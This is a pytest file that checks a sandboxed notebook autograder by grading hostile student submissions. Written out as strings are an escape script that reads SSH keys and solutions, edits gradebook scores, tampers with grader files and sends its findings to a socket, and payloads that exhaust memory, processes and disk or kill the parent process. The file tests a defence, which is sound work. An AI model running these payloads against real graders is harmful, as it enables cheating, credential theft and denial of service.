"""Submissions that attack the grader, graded in one batch beside honest and blank ones.

Everything is checked from outside the sandbox: files of the grader, the gradebook, the
other submissions, secrets planted in the grading HOME and environment, processes left.
The batch runs through ``python -m course_tools.grade`` and again through plain
``nbgrader autograde`` with the kit's config.
"""

import hashlib
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent))
from test_hostile_submissions import PS, ROOT, blank, insert_after, solved  # noqa: E402
from nbgrader.api import Gradebook  # noqa: E402

pytestmark = pytest.mark.timeout(900)

SECRET_KEY = "PLANTED-SSH-KEY-7f3a9c"
SECRET_ENV = "PLANTED-ENV-TOKEN-51d2e8"
MARKER = "sandbox-detached-7731"


def _need_bwrap():
    from course_tools.sandbox import SandboxUnavailable, check_available
    try:
        check_available()
    except SandboxUnavailable as exc:
        if os.environ.get("CI") == "true":
            pytest.fail(f"CI needs the grading sandbox: {exc}")
        pytest.skip(str(exc))


ESCAPE = f'''
import os, sqlite3, glob, socket, subprocess
found = []
course = os.environ.get("COURSE_DIR", "{{course}}")
for path in ["{{course}}/nbgrader_config.py", "{ROOT}/course_tools/grading/__init__.py",
             "{ROOT}/minigrad/__init__.py", os.path.join(os.path.dirname(os.__file__), "sitecustomize.py")]:
    try:
        with open(path, "a") as f:
            f.write("\\nprint('tampered')\\n")
        found.append("wrote " + path)
    except OSError as exc:
        pass
for pattern in ["{{course}}/solutions/*/*.ipynb", "{{course}}/submitted/*/*/*.ipynb", "{{course}}/gradebook.db",
                "/root/.ssh/*", "{{home}}/.ssh/*", "{{home}}/.jupyter/*"]:
    for path in glob.glob(pattern):
        try:
            found.append(path + ":" + open(path, errors="replace").read()[:200])
        except OSError:
            pass
try:
    db = sqlite3.connect("{{course}}/gradebook.db")
    db.execute("update grade set auto_score = 99")
    db.commit()
    found.append("gradebook edited")
except Exception:
    pass
print(dict(os.environ))
try:
    socket.create_connection(("127.0.0.1", {{port}}), timeout=2).sendall(repr(found).encode())
    found.append("socket sent")
except OSError:
    pass
os.makedirs(os.path.expanduser("~/.ipython/profile_default/startup"), exist_ok=True)
print(found)
'''

ATTACKS = {
    "memory_bomb": "import numpy as np\nx = np.ones(int(11.6e9 / 8))",
    "fork_bomb": "import subprocess\nps = [subprocess.Popen(['sleep', '60']) for _ in range(400)]",
    "big_file": "with open('big.bin', 'wb') as f:\n    for _ in range(2048):\n        f.write(b'x' * 2**20)",
    "detached": f"import subprocess\nsubprocess.Popen(['/bin/sh', '-c', 'exec -a {MARKER} sleep 3000'], start_new_session=True)",
    "kills_grader": "import os, signal\nfor pid in (os.getppid(), 1):\n    try: os.kill(pid, signal.SIGKILL)\n    except OSError: pass\ntry: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)\nexcept OSError: pass",
}


def _tree_hash(*paths):
    h = hashlib.sha256()
    for top in paths:
        top = Path(top)
        files = [top] if top.is_file() else sorted(p for p in top.rglob("*") if p.is_file()
                                                   and "__pycache__" not in p.parts)
        for p in files:
            h.update(str(p).encode() + b"\0" + p.read_bytes())
    return h.hexdigest()


def _venv_state():
    import site
    dirs = site.getsitepackages() + [os.path.dirname(os.__file__)]
    return sorted(str(p) for d in dirs for p in Path(d).glob("*customize*"))


def _processes_with(marker):
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    found.append(entry.name)
            except OSError:
                pass
    return found


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    _need_bwrap()
    import socket
    course = tmp_path_factory.mktemp("course")
    home = tmp_path_factory.mktemp("home")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text(SECRET_KEY)
    (home / ".jupyter").mkdir()
    (home / ".jupyter" / "jupyter_server_config.json").write_text(json.dumps({"token": SECRET_KEY}))
    for name in ("nbgrader_config.py", "solutions", "assignments"):
        src = ROOT / name
        (shutil.copytree if src.is_dir() else shutil.copy)(src, course / name)
    (course / "short.py").write_text("c = get_config()\nc.Execute.timeout = 20\n"
                                     "c.ExecutePreprocessor.timeout = 20\n")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.1)
    port = listener.getsockname()[1]
    escape = ESCAPE.replace("{course}", str(course)).replace("{home}", str(home)).replace("{port}", str(port))
    subs = {"honest": solved(), "blank": blank(), "escape": insert_after(blank(), "setup", escape)}
    subs["escape_honest"] = insert_after(solved(), "setup", escape)
    for name, code in ATTACKS.items():
        subs[name] = insert_after(solved(), "setup", code)
    for student, nb in subs.items():
        folder = course / "submitted" / student / PS
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / f"{PS}.ipynb")
    before = {"grader": _tree_hash(ROOT / "course_tools", ROOT / "minigrad"),
              "config": _tree_hash(course / "nbgrader_config.py", course / "solutions"),
              "venv": _venv_state()}
    submitted = {s: (course / "submitted" / s / PS / f"{PS}.ipynb").read_bytes() for s in subs}
    env = dict(os.environ, PYTHONPATH=str(ROOT), HOME=str(home), COURSE_SECRET=SECRET_ENV,
               PATH=os.path.dirname(sys.executable) + os.pathsep + os.environ["PATH"])
    start = time.monotonic()
    run = subprocess.run([sys.executable, "-m", "course_tools.grade", PS, "--config", "short.py",
                          "--json", str(course / "summary.json")],
                         cwd=course, env=env, capture_output=True, text=True, timeout=850)
    seconds = time.monotonic() - start
    print(run.stdout[-4000:], run.stderr[-4000:])
    print(f"{len(subs)} submissions in {seconds:.0f} s")
    received = []
    try:
        while True:
            conn, _ = listener.accept()
            received.append(conn.recv(100000))
    except OSError:
        pass
    time.sleep(1)
    return {"course": course, "home": home, "run": run, "env": env, "before": before,
            "submitted": submitted, "received": received, "students": list(subs)}


def _gradebook(course):
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        total = sum(c.max_score for c in gb.find_notebook(PS, PS).grade_cells)
        return total, {s.student_id: s.score for s in gb.assignment_submissions(PS)}


def _expected(total):
    want = {s: total for s in ["honest", "escape_honest"] + list(ATTACKS)}
    want.update(blank=0.0, escape=0.0)
    # A killed parent or a fork bomb costs nothing: the kernel keeps running the notebook.
    return want


def test_the_batch_finishes_and_every_submission_scores_what_it_earned(attacked):
    assert attacked["run"].returncode == 0, attacked["run"].stderr[-3000:]
    total, scores = _gradebook(attacked["course"])
    want = _expected(total)
    # The memory, process and disk bombs fail only their own cell; the rest of the
    # notebook is graded as usual.
    assert scores == want
    summary = {r["student"]: r["score"] for r in json.loads((attacked["course"] / "summary.json").read_text())["students"]}
    assert summary == scores


def test_grader_files_config_and_environment_are_unchanged(attacked):
    before = attacked["before"]
    course = attacked["course"]
    assert _tree_hash(ROOT / "course_tools", ROOT / "minigrad") == before["grader"]
    assert _tree_hash(course / "nbgrader_config.py", course / "solutions") == before["config"]
    assert _venv_state() == before["venv"]
    assert not (attacked["home"] / ".ipython" / "profile_default" / "startup").exists()
    for s, data in attacked["submitted"].items():
        assert (course / "submitted" / s / PS / f"{PS}.ipynb").read_bytes() == data


def test_no_secret_and_no_other_file_reaches_the_graded_notebooks_or_the_network(attacked):
    course = attacked["course"]
    assert attacked["received"] == []
    texts = [p.read_bytes() for p in (course / "autograded").rglob("*.ipynb")]
    texts.append((course / "gradebook.db").read_bytes())
    for text in texts:
        assert SECRET_KEY.encode() not in text and SECRET_ENV.encode() not in text
        assert b"### BEGIN SOLUTION" not in text
    nb = nbformat.read(course / "autograded" / "escape" / PS / f"{PS}.ipynb", as_version=4)
    printed = "".join(o.get("text", "") for c in nb.cells if c.cell_type == "code" for o in c.outputs)
    assert "[]" in printed   # the attack ran, and found nothing
    for sign in ("gradebook edited", "wrote ", "socket sent", "BEGIN SOLUTION", "COURSE_SECRET"):
        assert sign not in printed


def test_no_process_is_left_and_limits_are_logged(attacked):
    assert _processes_with(MARKER) == []
    err = attacked["run"].stderr
    assert re.search(r"memory_bomb: cell \d+ hit the sandbox's memory limit", err)
    assert re.search(r"fork_bomb: cell \d+ hit the sandbox's process limit", err)
    assert re.search(r"big_file: cell \d+ hit the sandbox's disk limit", err)


def test_plain_nbgrader_autograde_is_sandboxed_too(attacked):
    course, env = attacked["course"], attacked["env"]
    students = ["honest", "escape", "blank"]
    for s in students:
        run = subprocess.run([sys.executable, "-m", "nbgrader", "autograde", PS, "--force",
                              "--student", s], cwd=course, env=env, capture_output=True,
                             text=True, timeout=300)
        assert run.returncode == 0, run.stderr[-2000:]
        if s in ("honest", "blank"):      # test cells as released: nothing "has changed"
            assert "has changed" not in run.stderr, run.stderr[-2000:]
    total, scores = _gradebook(course)
    assert {s: scores[s] for s in students} == {"honest": total, "escape": 0.0, "blank": 0.0}
    escape = (course / "autograded" / "escape" / PS / f"{PS}.ipynb").read_bytes()
    assert SECRET_KEY.encode() not in escape and SECRET_ENV.encode() not in escape
    assert attacked["before"]["config"] == _tree_hash(course / "nbgrader_config.py", course / "solutions")


def test_records_written_in_a_grade_cell_are_judged_on_the_host(tmp_path, monkeypatch):
    """The channel plumbing with a stand-in judge: verdicts replace the cells' outputs."""
    from course_tools import preprocessors as P
    judge = tmp_path / "judge.py"
    judge.write_text("import json, sys\nfor line in sys.stdin:\n    r = json.loads(line)\n"
                     "    ok = r['records'] == [{'answer': 42}]\n"
                     "    print(json.dumps({'passed': ok, 'message': 'answer %s' % ('right' if ok else 'wrong')}))\n")
    resources = {"nbgrader": {"student": "s", "notebook": "n"}, "metadata": {"path": str(tmp_path)}}
    channel, seed = P.start_channel(resources)
    try:
        nb = nbformat.v4.new_notebook()
        write = ("import os, json\nopen(os.path.join(os.environ['MINIGRAD_GRADING_CHANNEL'], "
                 "'r%d.json' % {n}), 'w').write(json.dumps({{'answer': {a}}}))\n{tail}")
        nb.cells = [nbformat.v4.new_code_cell(write.format(n=0, a=1, tail="")),   # not graded
                    # right answer, and the kernel claims partial credit: the verdict decides
                    nbformat.v4.new_code_cell(write.format(n=1, a=42, tail="0.5")),
                    # wrong answer, and the kernel hides its error: still a failure
                    nbformat.v4.new_code_cell(write.format(n=2, a=7, tail="print('ok')")),
                    # right answer, but a visible assert failed in the kernel: a failure
                    nbformat.v4.new_code_cell(write.format(n=3, a=42, tail="raise AssertionError('visible')"))]
        for i, cell in enumerate(nb.cells[1:]):
            cell.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True,
                                         "grade_id": f"t{i}", "points": 1}
        ex = P.GuardedExecute(judge_command=[sys.executable, str(judge)], guard_kernel=False,
                              kernel_manager_class="course_tools.sandbox.SandboxKernelManager")
        nb, _ = ex.preprocess(nb, resources)
    finally:
        os.environ.pop("MINIGRAD_GRADING_CHANNEL", None)
        os.environ.pop("MINIGRAD_GRADING_SEED", None)
    from nbgrader.utils import determine_grade
    assert [determine_grade(c)[0] for c in nb.cells[1:]] == [1.0, 0.0, 0.0]
    assert [o.output_type for o in nb.cells[1].outputs] == ["stream", "stream"]
    assert nb.cells[1].outputs[-1].text == "answer right\n"
    assert nb.cells[2].outputs[-1].ename == "GradingFailure"
    assert nb.cells[2].outputs[-1].evalue == "answer wrong"
    assert [o.output_type for o in nb.cells[3].outputs] == ["error", "stream"]
    assert not os.path.exists(channel)
